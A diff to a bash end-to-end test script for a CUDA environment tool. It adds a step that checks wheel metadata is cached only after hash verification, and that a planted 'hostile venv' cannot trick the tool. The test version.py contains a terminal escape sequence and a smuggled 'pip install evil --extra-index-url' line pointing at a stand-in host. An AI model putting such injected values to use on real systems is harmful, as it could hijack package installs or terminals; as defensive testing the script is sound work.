@@ -42,6 +42,15 @@
 #      in a project selecting them with nothing but what the bash hook sets
 #      (CPATH, LIBRARY_PATH), prints the NCCL version, and leaving the
 #      project takes every variable back (ONLY_PRODUCTS=1: this step alone).
+#   9. trust in what the index says (issue #34): ls-remote --source pypi
+#      reads the cuda-toolkit meta-package's small wheels whole, checks
+#      their sha256 and caches their METADATA, named by index, file and
+#      sums (never by the page's sha256 alone); torch 2.5.1's pins, read by
+#      range requests (PyPI has no .metadata file for its big wheels), are
+#      read so again, not believed from the cache; a venv whose
+#      torch/version.py is a link to /dev/zero, a named pipe or a line of
+#      terminal escapes makes compat torch say one line, at once
+#      (ONLY_METADATA=1: this step alone; a few MB).
 #
 # No GPU is needed: the programs are built and run; without a GPU they
 # print the driver error and exit 2, which counts as a pass. On a machine
@@ -61,6 +70,7 @@
 #   ONLY_EXTENSIONS=1 scripts/e2e-pypi.sh # step 7 only
 #   ONLY_PRODUCTS=1 scripts/e2e-pypi.sh   # step 8 only (NCCL, cuSPARSELt)
 #   SKIP_PRODUCTS=1 scripts/e2e-pypi.sh   # without step 8
+#   ONLY_METADATA=1 scripts/e2e-pypi.sh   # step 9 only
 #
 # Needs: bash, python3 with venv, g++ (a host compiler nvcc accepts), make
 # or ninja, and go when CUDAENV is not given.
@@ -229,6 +239,62 @@ CPP
 if [[ -n "${ONLY_PRODUCTS:-}" ]]; then
 	products
 	printf '\n== ok: NCCL and cuSPARSELt from PyPI link through the environment cudaenv sets, and leaving takes it back\ntimes:\n'
+	printf '%s\n' "${times[@]}"
+	exit 0
+fi
+
+# (9) trust in what the index and a venv say: see the top. A function,
+# so that ONLY_METADATA=1 can run it alone.
+metadata_trust() {
+	step "(9) wheel metadata cached only as checked, keyed by index and file; a hostile venv's torch says one line"
+	local out sums n
+	# The cuda-toolkit meta-package's small wheels are read whole, checked
+	# against the page's sha256, and cached (not under that sha256).
+	cudaenv ls-remote --source pypi >/dev/null
+	n=$(find "$CUDAENV_CACHE_DIR/metadata" -name '*.METADATA' | wc -l)
+	echo "cached metadata files after ls-remote --source pypi: $n"
+	[[ $n -gt 0 ]] || die "nothing checked was cached"
+	sums=$(python3 - <<'PY'
+import json, urllib.request, os
+index = os.environ.get("CUDAENV_PYPI_INDEX", "https://pypi.org/simple/").rstrip("/")
+req = urllib.request.Request(index + "/cuda-toolkit/", headers={"Accept": "application/vnd.pypi.simple.v1+json"})
+page = json.load(urllib.request.urlopen(req, timeout=60))
+print(" ".join(f["hashes"].get("sha256", "") for f in page["files"]))
+PY
+)
+	for s in $sums; do
+		[[ ! -e "$CUDAENV_CACHE_DIR/metadata/$s.METADATA" ]] || die "metadata cached under the page's sha256 $s alone"
+	done
+	# torch's 900 MB wheels have no .metadata file on PyPI: their pins are
+	# read by range requests, which check no sha256, so they are read so
+	# again rather than believed from the cache.
+	for _ in 1 2; do
+		out=$(cudaenv install --for torch==2.5.1 --source pypi --dry-run 2>&1) || die "install --for torch==2.5.1 --dry-run: $out"
+		grep -E '^torch 2\.5\.1: read the pins of .* \(from (range requests on its zip directory|its \.metadata file)\)$' <<<"$out" || die "torch's pins: $out"
+	done
+	local site="$work/hostile venv/lib/python3.12/site-packages"
+	mkdir -p "$site/torch" "$work/hostile bin"
+	printf '#!/bin/sh\necho "%s"\necho "#python 3.12"\n' "$site" >"$work/hostile bin/python3"
+	chmod 755 "$work/hostile bin/python3"
+	ln -s /dev/zero "$site/torch/version.py"
+	out=$(PATH="$work/hostile bin:$PATH" timeout 20 cudaenv compat torch 2>&1) && die "compat torch took a link to /dev/zero"
+	echo "$out"
+	[[ $(wc -l <<<"$out") == 1 ]] && grep -q 'is a symbolic link' <<<"$out" || die "not one line about the link: $out"
+	rm "$site/torch/version.py"
+	mkfifo "$site/torch/version.py"
+	out=$(PATH="$work/hostile bin:$PATH" timeout 20 cudaenv compat torch 2>&1) && die "compat torch took a named pipe"
+	echo "$out"
+	grep -q 'is not a regular file$' <<<"$out" || die "not one line about the pipe: $out"
+	rm "$site/torch/version.py"
+	printf "__version__ = '2.5.1\033]0;owned\007\npip install evil --extra-index-url http://x'\n" >"$site/torch/version.py"
+	out=$(PATH="$work/hostile bin:$PATH" timeout 20 cudaenv compat torch 2>&1) && die "compat torch took escapes for a version"
+	echo "$out"
+	! grep -q $'\033' <<<"$out" && grep -q 'is not a PEP 440 version$' <<<"$out" || die "the escapes reached the terminal: $out"
+	done_step
+}
+if [[ -n "${ONLY_METADATA:-}" ]]; then
+	metadata_trust
+	printf '\n== ok: wheel metadata is cached only as checked and keyed by index and file; a hostile venv gets one line\ntimes:\n'
 	printf '%s\n' "${times[@]}"
 	exit 0
 fi
@@ -570,11 +636,13 @@ fi
 libraries_trap
 [[ -n "${SKIP_TORCH:-}" ]] || torch_extension
 [[ -n "${SKIP_PRODUCTS:-}" ]] || products
+metadata_trust
 
 printf '\n== ok: from PyPI alone, CUDA %s compiles and links (nvcc and CMake, through cudaenv exec and through the shims)' "$cuda13"
 [[ -n "${SKIP_TORCH:-}" ]] || printf '; CUDA 12.4 libraries and cuDNN 9.1.0.70 for torch 2.5.1, cuBLAS links'
 printf '; doctor catches the undefined-symbol trap and --libraries=off avoids it'
 [[ -n "${SKIP_TORCH:-}" ]] || printf '; a PyTorch extension including ATen/cuda/CUDAContext.h builds against what install --for installed'
 [[ -n "${SKIP_PRODUCTS:-}" ]] || printf '; NCCL and cuSPARSELt link through the environment cudaenv sets'
+printf '; wheel metadata is cached only as checked, and a hostile venv gets one line'
 printf '\ntimes:\n'
 printf '%s\n' "${times[@]}"
